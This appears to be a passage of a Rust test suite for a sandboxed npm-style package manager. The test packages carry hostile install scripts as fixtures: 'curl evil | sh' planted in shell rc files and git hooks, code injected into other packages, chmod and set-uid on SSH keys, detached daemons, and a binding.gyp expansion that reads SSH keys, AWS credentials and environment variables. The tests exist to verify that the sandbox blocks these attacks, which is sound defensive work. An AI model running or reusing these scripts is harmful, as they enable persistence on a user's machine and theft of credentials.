            for (addr, listener) in &listeners {
                match listener.accept() {
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                    other => panic!(
                        "{}: the host listener on {addr} got a connection ({other:?}):\n{}",
                        case.label(),
                        text(out)
                    ),
                }
            }
            for socket in &udp {
                let mut buf = [0u8; 4096];
                match socket.recv_from(&mut buf) {
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                    other => panic!(
                        "{}: the host UDP socket {:?} received a datagram ({other:?})",
                        case.label(),
                        socket.local_addr()
                    ),
                }
            }
        },
    });
}

// ---- d) persistence --------------------------------------------------------------------------

#[test]
fn script_cannot_write_shell_rc_files_or_git_hooks() {
    let script = r#"
for h in @FAKE_HOME@ "$HOME" @PASSWD_HOME@; do
  for f in .bashrc .profile .zshrc .bash_profile; do echo 'curl evil | sh # @NONCE@' >> "$h/$f"; done
  mkdir -p "$h/.config/autostart" && echo evil > "$h/.config/autostart/evil.desktop"
done
for g in @PROJECT@/.git "$INIT_CWD/.git" ../../../../../.git; do
  mkdir -p "$g/hooks"
  printf '#!/bin/sh\ncurl evil | sh # @NONCE@\n' > "$g/hooks/pre-commit"; chmod +x "$g/hooks/pre-commit"
  printf '[core]\n\thooksPath = /tmp/evil-@NONCE@\n' >> "$g/config"
  mv "$g/hooks/pre-commit.sample" "$g/hooks/post-checkout"
done
git -C @PROJECT@ config core.hooksPath /tmp/evil-@NONCE@
echo BUILT | tr -d '\n' > built.txt
"#;
    attack(Attack {
        name: "persist",
        opens_decoys: false,
        others: &[],
        tools: false,
        packages: &|case| {
            // The landlock backend shares the host's file system and Landlock has no right for
            // metadata: plain mode bits and times of the user's own files are a gap it lists in
            // `doctor` (setuid/setgid bits and extended attributes are refused by its seccomp
            // filter, and still attempted here).
            let script = if case.backend == "landlock" {
                script
                    .replace(r#"chmod 0777 "$f"; "#, "")
                    .replace(r#"; touch -h -d 2000-01-01 "$f""#, "")
                    .replace("find @SBX_HOME@/store -exec chmod 0777 {} + -exec touch -d 2000-01-01 {} +\n", "find @SBX_HOME@/store -type f -exec chmod u+s {} +\n")
            } else {
                script.to_string()
            };
            vec![
                PackageBuilder::new(case.name, "1.0.0")
                    .script("postinstall", "sh attack.sh")
                    .file("index.js", "")
                    .file("attack.sh", case.fill(&script))
                    .build()
                    .unwrap(),
            ]
        },
        settle: Duration::ZERO,
        check: &|case, _| {
            assert!(
                !case.home.join(".zshrc").exists(),
                "{}: ~/.zshrc was created",
                case.label()
            );
            assert!(!case.project.join(".git/hooks/pre-commit").exists());
        },
    });
}

// ---- e) other packages and the store ---------------------------------------------------------

#[test]
fn script_cannot_modify_other_packages_or_the_store() {
    let script = r#"
# The control first: its own dependency is readable.
cat ../victim-dep/index.js > dep-copy.txt
node -e "require('fs').writeFileSync('dep-require.txt', String(require('victim-dep')))"
for f in ../victim-dep/index.js ../../../victim-dep@1.0.0/node_modules/victim-dep/index.js \
         ../../../other@1.0.0/node_modules/other/index.js "$INIT_CWD/node_modules/other/index.js" \
         ../../../../../node_modules/other/index.js @PROJECT@/node_modules/other/index.js; do
  echo 'require("child_process").exec("curl evil | sh") // @NONCE@' >> "$f"
done
rm -rf ../victim-dep; ln -sfn /tmp ../victim-dep
rm -f @PROJECT@/node_modules/other; ln -s /tmp @PROJECT@/node_modules/other
echo '{}' > ../../../lock.json; echo '{}' > @PROJECT@/node_modules/.sandboxpm/lock.json
touch ../../.sandboxpm-scripts-done ../../../other@1.0.0/.sandboxpm-scripts-done
find @SBX_HOME@/store -type f | while read -r f; do echo '// @NONCE@' >> "$f"; done
mkdir -p @SBX_HOME@/store/v2/index && echo '{}' > @SBX_HOME@/store/v2/index/evil-@NONCE@.json
# Shared package directories: add a link into each, and a directory beside them.
for d in @SBX_HOME@/store/v2/links/*/node_modules; do ln -s /tmp "$d/evil-@NONCE@"; done
mkdir -p @SBX_HOME@/store/v2/links/evil-@NONCE@
echo BUILT | tr -d '\n' > built.txt
"#;
    attack(Attack {
        name: "tamper",
        opens_decoys: false,
        others: &["other"],
        tools: false,
        packages: &|case| {
            vec![
                PackageBuilder::new(case.name, "1.0.0")
                    .script("postinstall", "sh attack.sh")
                    .dependency("victim-dep", "1.0.0")
                    .file("index.js", "")
                    .file("attack.sh", case.fill(script))
                    .build()
                    .unwrap(),
                PackageBuilder::new("victim-dep", "1.0.0")
                    .file("index.js", "module.exports = 'victim';\n")
                    .build()
                    .unwrap(),
                PackageBuilder::new("other", "1.0.0")
                    .file("index.js", "module.exports = 'other';\n")
                    .build()
                    .unwrap(),
            ]
        },
        settle: Duration::ZERO,
        check: &|case, _| {
            let dir = case.package_dir();
            assert_eq!(
                std::fs::read_to_string(dir.join("dep-copy.txt"))
                    .ok()
                    .as_deref(),
                Some("module.exports = 'victim';\n"),
                "{}: the script could not read its own dependency",
                case.label()
            );
            assert_eq!(
                std::fs::read_to_string(dir.join("dep-require.txt"))
                    .ok()
                    .as_deref(),
                Some("victim"),
                "{}: the script could not require its own dependency",
                case.label()
            );
            // The dependency lives in the store's shared directory, not in the project.
            let shared = case
                .project
                .join("node_modules/.sandboxpm/victim-dep@1.0.0");
            assert!(
                std::fs::read_link(&shared).is_ok_and(|t| t.starts_with(&case.sbx_home)),
                "{}: victim-dep is not linked from the store's shared directory",
                case.label()
            );
        },
    });
}

/// Seconds since the epoch of 2000-01-01, the time the metadata attack stamps files with.
const Y2000: i64 = 946_684_800;

/// The extended attributes of `path` (not following a symlink).
fn xattrs(path: &Path) -> Vec<u8> {
    use std::os::unix::ffi::OsStrExt;
    let name = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    let mut buf = vec![0u8; 4096];
    // SAFETY: `name` is NUL-terminated and `buf` is writable for its length.
    let n = unsafe { libc::llistxattr(name.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    buf.truncate(usize::try_from(n).unwrap_or(0));
    buf
}

#[test]
fn script_cannot_change_permissions_times_or_xattrs_of_host_files() {
    // Metadata, not content: making `~/.ssh/id_rsa` world-readable leaks it to every local
    // account, a set-uid bit or a writable store blob is a later escalation, and a file's times
    // and extended attributes are how other tools decide what to trust.
    let script = r#"
for f in @FAKE_HOME@/.ssh/id_rsa @FAKE_HOME@/.ssh @FAKE_HOME@/.bashrc @FAKE_HOME@ \
         @PROJECT@/package.json @PROJECT@/.env @PROJECT@/.git/config @PROJECT@ \
         ../../../other@1.0.0/node_modules/other/index.js @PROJECT@/node_modules/other/index.js; do
  chmod 0777 "$f"; chmod u+s "$f"; touch -h -d 2000-01-01 "$f"
  python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.sandboxpm-attack", b"1", follow_symlinks=False)' "$f"
done
find @SBX_HOME@/store -exec chmod 0777 {} + -exec touch -d 2000-01-01 {} +
echo BUILT | tr -d '\n' > built.txt
"#;
    attack(Attack {
        name: "metadata",
        opens_decoys: false,
        others: &["other"],
        tools: false,
        packages: &|case| {
            // The landlock backend shares the host's file system and Landlock has no right for
            // metadata: plain mode bits and times of the user's own files are a gap it lists in
            // `doctor` (setuid/setgid bits and extended attributes are refused by its seccomp
            // filter, and still attempted here).
            let script = if case.backend == "landlock" {
                script
                    .replace(r#"chmod 0777 "$f"; "#, "")
                    .replace(r#"; touch -h -d 2000-01-01 "$f""#, "")
                    .replace("find @SBX_HOME@/store -exec chmod 0777 {} + -exec touch -d 2000-01-01 {} +\n", "find @SBX_HOME@/store -type f -exec chmod u+s {} +\n")
            } else {
                script.to_string()
            };
            vec![
                PackageBuilder::new(case.name, "1.0.0")
                    .script("postinstall", "sh attack.sh")
                    .file("index.js", "")
                    .file("attack.sh", case.fill(&script))
                    .build()
                    .unwrap(),
                PackageBuilder::new("other", "1.0.0")
                    .file("index.js", "module.exports = 'other';\n")
                    .build()
                    .unwrap(),
            ]
        },
        settle: Duration::ZERO,
        check: &|case, out| {
            // Modes are in the snapshot; times and extended attributes are checked here.
            let mut paths = Vec::new();
            for base in [&case.home, &case.project, &case.sbx_home.join("store")] {
                let mut state = BTreeMap::new();
                snapshot(base, &mut state);
                paths.extend(state.into_keys());
            }
            for path in paths.iter().filter(|p| !case.may_differ(p)) {
                let meta = std::fs::symlink_metadata(path).unwrap();
                assert!(
                    meta.mtime() > Y2000 + 86_400,
                    "{}: the time of {} was changed:\n{}",
                    case.label(),
                    path.display(),
                    text(out)
                );
                assert!(
                    xattrs(path).is_empty(),
                    "{}: {} got extended attributes {:?}",
                    case.label(),
                    path.display(),
                    String::from_utf8_lossy(&xattrs(path))
                );
            }
        },
    });
}

// ---- f) the project's manifest and lockfile --------------------------------------------------

#[test]
fn script_cannot_edit_the_project_manifest_or_lockfile() {
    let body = r#"
for (const base of ['@PROJECT@', process.env.INIT_CWD, '../../../../..']) {
  for (const f of ['package.json', 'sandboxpm-lock.json', '.sandboxpmrc', 'src/index.js']) {
    write(base + '/' + f, '\n// @NONCE@\n');
    try { fs.writeFileSync(base + '/' + f, '{"name": "pwned"}'); note('REPLACED ' + f); } catch (e) { note('replace ' + f + ': ' + e.code); }
    try { fs.renameSync(base + '/' + f, base + '/' + f + '.moved'); note('MOVED ' + f); } catch (e) { note('move ' + f + ': ' + e.code); }
  }
  try { fs.writeFileSync(base + '/.npmrc', 'registry=http://127.0.0.1:9/\n'); note('WROTE .npmrc'); } catch (e) { note('npmrc: ' + e.code); }
}
sh('sed -i s/victim-app/pwned/ @PROJECT@/package.json; echo {} > "$INIT_CWD/sandboxpm-lock.json"');
// Its own manifest is its own business (npm lets a script rewrite it).
write(process.env.npm_package_json, '\n');
"#;
    attack(Attack {
        name: "edit-manifest",
        opens_decoys: false,
        others: &[],
        tools: false,
        packages: &|case| vec![js_attacker(case, body).build().unwrap()],
        settle: Duration::ZERO,
        check: &|case, _| {
            let loot = loot(case);
            assert!(
                loot.contains(&format!(
                    "WROTE {}",
                    case.package_dir().join("package.json").display()
                )),
                "{}: the script could not write its own package.json:\n{loot}",
                case.label()
            );
            let lock = std::fs::read_to_string(case.project.join("sandboxpm-lock.json")).unwrap();
            assert!(lock.contains("edit-manifest"), "{lock}");
        },
    });
}

// ---- g) outliving the install ----------------------------------------------------------------

#[test]
fn script_cannot_outlive_the_install() {
    // Each daemon waits, then writes into the script's own directory (writable while the script
    // runs: a marker there after the install proves the daemon survived), the project and /tmp.
    let daemon = |how: &str| {
        format!(
            "sleep 2; for d in @PACKAGE_DIR@ @PROJECT@ /tmp; do echo alive > $d/daemon-{how}-@NONCE@; done; sleep 30 # daemon-@NONCE@"
        )
    };
    let script = format!(
        r#"
(setsid sh -c '{setsid}' > /dev/null 2>&1 &)
nohup sh -c '{nohup}' > /dev/null 2>&1 &
(setsid sh -c '{held}' &)
node -e "require('child_process').spawn('sh', ['-c', process.argv[1]], {{detached: true, stdio: 'ignore'}}).unref()" '{node}'
python3 -c 'import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", sys.argv[1]])
    os._exit(0)' '{python}'
echo BUILT | tr -d '\n' > built.txt
"#,
        setsid = daemon("setsid"),
        nohup = daemon("nohup"),
        held = daemon("held-output"),
        node = daemon("node"),
        python = daemon("python"),
    );
    attack(Attack {
        name: "daemonize",
        opens_decoys: false,
        others: &[],
        tools: false,
        packages: &|case| {
            vec![
                PackageBuilder::new(case.name, "1.0.0")
                    .script("postinstall", "sh attack.sh")
                    .file("index.js", "")
                    .file("attack.sh", case.fill(&script))
                    .build()
                    .unwrap(),
            ]
        },
        settle: Duration::from_secs(4),
        check: &|case, _| {
            let marker = format!("daemon-{}", case.secrets.nonce);
            let mut survivors = Vec::new();
            for entry in std::fs::read_dir("/proc").unwrap().flatten() {
                if let Ok(cmdline) = std::fs::read(entry.path().join("cmdline"))
                    && String::from_utf8_lossy(&cmdline).contains(&marker)
                {
                    survivors.push(String::from_utf8_lossy(&cmdline).replace('\0', " "));
                }
            }
            assert!(
                survivors.is_empty(),
                "{}: processes outlived the install: {survivors:#?}",
                case.label()
            );
            for dir in [
                case.package_dir(),
                case.project.clone(),
                std::env::temp_dir(),
            ] {
                for how in ["setsid", "nohup", "held-output", "node", "python"] {
                    let path = dir.join(format!("daemon-{how}-{}", case.secrets.nonce));
                    assert!(
                        !path.exists(),
                        "{}: the {how} daemon outlived the install: {}",
                        case.label(),
                        path.display()
                    );
                }
            }
        },
    });
}

// ---- h) binding.gyp command expansions -------------------------------------------------------

/// The code in the expansion: it steals, tries to write outside, and records that it ran.
const GYP_STEAL: &str = r#"
const fs = require('fs');
const log = [];
for (const p of ['@FAKE_HOME@/.ssh/id_rsa', process.env.HOME + '/.aws/credentials', '@PROJECT@/.env'])
  try { log.push('READ ' + p + ' => ' + fs.readFileSync(p, 'utf8')); } catch (e) { log.push('read ' + p + ': ' + e.code); }
for (const p of ['@PROJECT@/package.json', '@FAKE_HOME@/.bashrc', '@PROJECT@/.git/hooks/pre-commit'])
  try { fs.appendFileSync(p, '// @NONCE@\n'); log.push('WROTE ' + p); } catch (e) { log.push('write ' + p + ': ' + e.code); }
// Its own files: a private copy may be changed, a store blob shared with other projects not.
for (const p of ['index.js', 'addon.c'])
  try { fs.chmodSync(p, 0o644); fs.appendFileSync(p, '// @NONCE@\n'); log.push('CHANGED OWN ' + p); } catch (e) { log.push('own ' + p + ': ' + e.code); }
log.push('env ' + JSON.stringify(process.env));
fs.writeFileSync('gyp-loot.txt', log.join('\n') + '\n');
fs.writeFileSync('built.txt', 'BUILT');
console.log('.');
"#;

/// A native addon whose `binding.gyp` hides code in two command expansions. With `explicit`,
/// its manifest says `"install": "node-gyp rebuild"` (what a publish writes, so the registry
/// reports `hasInstallScript`); without, the build is npm's implicit one, known only from the
/// `binding.gyp` in the tarball.
fn gyp_package(case: &Case, explicit: bool) -> BuiltPackage {
    let gyp = r#"{
  "targets": [{
    "target_name": "addon",
    "sources": ["<!@(node -e \"console.log('addon.c')\")"],
    "include_dirs": ["<!(node -e \"require('./steal.js')\")"]
  }]
}
"#;
    let mut builder = PackageBuilder::new(case.name, "1.0.0");
    if explicit {
        builder = builder.script("install", "node-gyp rebuild");
    }
    builder
        .file(
            "index.js",
            "module.exports = require('./build/Release/addon.node');\n",
        )
        .file("binding.gyp", gyp)
        .file("steal.js", case.fill(GYP_STEAL))
        .file(
            "addon.c",
            "int sandboxpm_attack_addon(void) { return 42; }\n",
        )
        .build()
        .unwrap()
}

fn gyp_attack(name: &'static str, explicit: bool) {
    if !require(
        node_headers().is_some(),
        "node's headers (include/node/common.gypi next to node) are needed for node-gyp",
    ) {
        return;
    }
    attack(Attack {
        name,
        // The expansion reads `~/.aws/credentials`.
        opens_decoys: true,
        others: &[],
        tools: false,
        packages: &|case| vec![gyp_package(case, explicit)],
        settle: Duration::ZERO,
        check: &|case, out| {
            let dir = case.package_dir();
            let loot = std::fs::read_to_string(dir.join("gyp-loot.txt")).unwrap_or_else(|e| {
                panic!(
                    "{}: the expansion did not run ({e}):\n{}",
                    case.label(),
                    text(out)
                )
            });
            // Its own files are its own (a private copy).
            assert!(
                loot.contains("CHANGED OWN index.js"),
                "{}: {loot}",
                case.label()
            );
            // The control of the build itself: node-gyp, python3, make and cc work in the sandbox.
            assert!(
                dir.join("build/Release/addon.node").is_file(),
                "{}: node-gyp did not build the addon:\n{}",
                case.label(),
                text(out)
            );
            let running = format!("running {name}@1.0.0 install (sandboxed): node-gyp rebuild");
            assert!(text(out).contains(&running), "{}", text(out));
        },
    });
}

#[test]
fn binding_gyp_expansion_runs_sandboxed() {
    gyp_attack("gyp-explicit", true);
}

#[test]
fn binding_gyp_expansion_of_an_implicit_build_runs_sandboxed() {
    gyp_attack("gyp-implicit", false);
}

/// A pseudo-terminal: (master, path of the slave).
fn open_pty() -> (std::fs::File, String) {
    use std::os::fd::FromRawFd;
    // SAFETY: standard pty allocation; every return value is checked.
    unsafe {
        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
        assert!(master >= 0);
        assert_eq!(libc::grantpt(master), 0);
        assert_eq!(libc::unlockpt(master), 0);
        let mut name = [0 as libc::c_char; 128];
        assert_eq!(libc::ptsname_r(master, name.as_mut_ptr(), name.len()), 0);
        let name = std::ffi::CStr::from_ptr(name.as_ptr())
            .to_string_lossy()
            .into_owned();
        (std::fs::File::from_raw_fd(master), name)
    }
}

/// Before anything runs, the person asked sees the commands hidden in `binding.gyp`, not only
/// `node-gyp rebuild`; answering no runs nothing.
#[test]
fn binding_gyp_expansions_are_shown_before_consent() {
    for identity in support::identities() {
        let case = Case::new("native", &identity, "gyp-implicit");
        let registry = FixtureRegistry::start().unwrap();
        registry.add(&gyp_package(&case, false));
        std::fs::write(
            case.project.join("package.json"),
            r#"{"name": "victim-app", "dependencies": {"gyp-implicit": "1.0.0"}}"#,
        )
        .unwrap();
        case.own();
        let (mut master, slave_path) = open_pty();
        if let Identity::User { uid, gid, .. } = &identity {
            std::os::unix::fs::chown(&slave_path, Some(*uid), Some(*gid)).unwrap();
        }
        let slave = std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .open(&slave_path)
            .unwrap();
        let mut command = case.command(&registry.url(), &["install"]);
        command
            .stdin(slave.try_clone().unwrap())
            .stdout(slave.try_clone().unwrap())
            .stderr(slave.try_clone().unwrap());
        let mut child = command.spawn().unwrap();
        drop(command);
        drop(slave);
        // Read the transcript while it runs; answer `n` once the question is asked.
        let mut transcript = Vec::new();
        let mut answered = false;
        let deadline = Instant::now() + Duration::from_secs(120);
        set_nonblocking(&master);
        loop {
            let mut chunk = [0u8; 4096];
            match master.read(&mut chunk) {
                Ok(n) if n > 0 => transcript.extend_from_slice(&chunk[..n]),
                _ => std::thread::sleep(Duration::from_millis(20)),
            }
            if !answered
                && String::from_utf8_lossy(&transcript).contains("[y/N/inspect/always/never]")
            {
                master.write_all(b"n\n").unwrap();
                answered = true;
            }
            if child.try_wait().unwrap().is_some() {
                let mut rest = [0u8; 65536];
                if let Ok(n) = master.read(&mut rest) {
                    transcript.extend_from_slice(&rest[..n]);
                }
                break;
            }
            assert!(
                Instant::now() < deadline,
                "the install did not finish: {}",
                String::from_utf8_lossy(&transcript)
            );
        }
        let transcript = String::from_utf8_lossy(&transcript).into_owned();
        let context = identity.label();
        assert!(answered, "{context}: no question was asked:\n{transcript}");
        for shown in [
            "gyp-implicit@1.0.0",
            "install (implicit, binding.gyp)",
            "node-gyp rebuild",
            "binding.gyp command expansion",
            r#"node -e "require('./steal.js')""#,
            r#"node -e "console.log('addon.c')""#,
        ] {
            assert!(
                transcript.contains(shown),
                "{context}: the prompt does not show `{shown}`:\n{transcript}"
            );
        }
        assert!(
            !case.package_dir().join("gyp-loot.txt").exists()
                && !case.package_dir().join("build").exists(),
            "{context}: code ran although the answer was no:\n{transcript}"
        );
    }
}

/// Without a terminal (CI), `sandboxpm scripts ls` is where a person reviews what
/// `sandboxpm scripts approve` will let run: it must list a `binding.gyp` package, and the
/// commands hidden in its expansions, like the prompt does.
#[test]
fn scripts_ls_shows_binding_gyp_expansions() {
    let identity = support::identities().remove(0);
    let mut missing = Vec::new();
    for (name, explicit) in [("gyp-explicit", true), ("gyp-implicit", false)] {
        let case = Case::new("native", &identity, name);
        let registry = FixtureRegistry::start().unwrap();
        registry.add(&gyp_package(&case, explicit));
        std::fs::write(
            case.project.join("package.json"),
            format!(r#"{{"name": "victim-app", "dependencies": {{"{name}": "1.0.0"}}}}"#),
        )
        .unwrap();
        case.own();
        // Undecided and no terminal: the install links, then stops before running anything.
        let out = case.install(&registry.url());
        assert!(!out.status.success(), "{name}: {}", text(&out));
        assert!(
            text(&out).contains(&format!("{name}@1.0.0")),
            "{name}: the blocked install does not name the package:\n{}",
            text(&out)
        );
        let ls = run(
            case.command(&registry.url(), &["scripts", "ls"]),
            Duration::from_secs(60),
        );
        let listed = text(&ls);
        for shown in [
            format!("{name}@1.0.0"),
            "node-gyp rebuild".to_string(),
            r#"node -e "require('./steal.js')""#.to_string(),
        ] {
            if !listed.contains(&shown) {
                missing.push(format!("{name}: `{shown}` is not listed"));
            }
        }
        if !missing.is_empty() {
            eprintln!("{name}: sandboxpm scripts ls:\n{listed}");
        }
    }
    assert!(missing.is_empty(), "{missing:#?}");
}

fn set_nonblocking(file: &std::fs::File) {
    use std::os::fd::AsRawFd;
    // SAFETY: fcntl on an owned descriptor.
    unsafe {
        let flags = libc::fcntl(file.as_raw_fd(), libc::F_GETFL);
        libc::fcntl(file.as_raw_fd(), libc::F_SETFL, flags | libc::O_NONBLOCK);
    }
}
